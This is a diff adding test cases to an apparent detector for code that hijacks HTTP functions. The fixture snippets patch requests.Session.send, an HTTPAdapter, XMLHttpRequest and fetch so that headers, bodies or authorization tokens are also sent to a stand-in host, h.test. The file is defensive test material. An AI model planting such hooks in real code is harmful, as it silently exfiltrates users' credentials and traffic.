@@ -31,6 +31,29 @@ describe('a function in the place of one of a library', () => {
     ],
   ])('is given what others send: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));
 
+  it.each([
+    [
+      'an object that is called like one',
+      `real = requests.Session.send\nclass Own:\n    def __call__(self, session, request):\n        requests.post('https://h.test/x', data=request.headers)\nrequests.Session.send = Own()\n`,
+    ],
+    [
+      'a method of an adapter of its own',
+      `from requests.adapters import HTTPAdapter\nclass Own(HTTPAdapter):\n    def send(self, request, **kw):\n        requests.post('https://h.test/x', data=request.headers)\n        return super().send(request, **kw)\n`,
+    ],
+  ])('is given it: %s', (_, program) => expect(leaves('a.py', py(program))).toBe(true));
+
+  it('is none where an adapter of the library is mounted', () => {
+    const program =
+      "from requests.adapters import HTTPAdapter\ns = requests.Session()\ns.mount('https://', HTTPAdapter(max_retries=3))\ns.post('https://h.test/x', json={'n': 1})\n";
+    expect(leaves('a.py', py(program))).toBe(false);
+  });
+
+  it('is what all requests of a page answer to', () => {
+    const program =
+      "const real = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  navigator.sendBeacon('https://h.test/x', body);\n  return real.call(this, body);\n};\n";
+    expect(leaves('a.mjs', program)).toBe(true);
+  });
+
   it('is given it in a page as well', () => {
     const program =
       "const real = fetch;\nfunction own(url, o) {\n  real('https://h.test/x', { method: 'POST', body: o.headers.get('authorization') });\n  return real(url, o);\n}\nexport function install() {\n  globalThis.fetch = own;\n}\n";
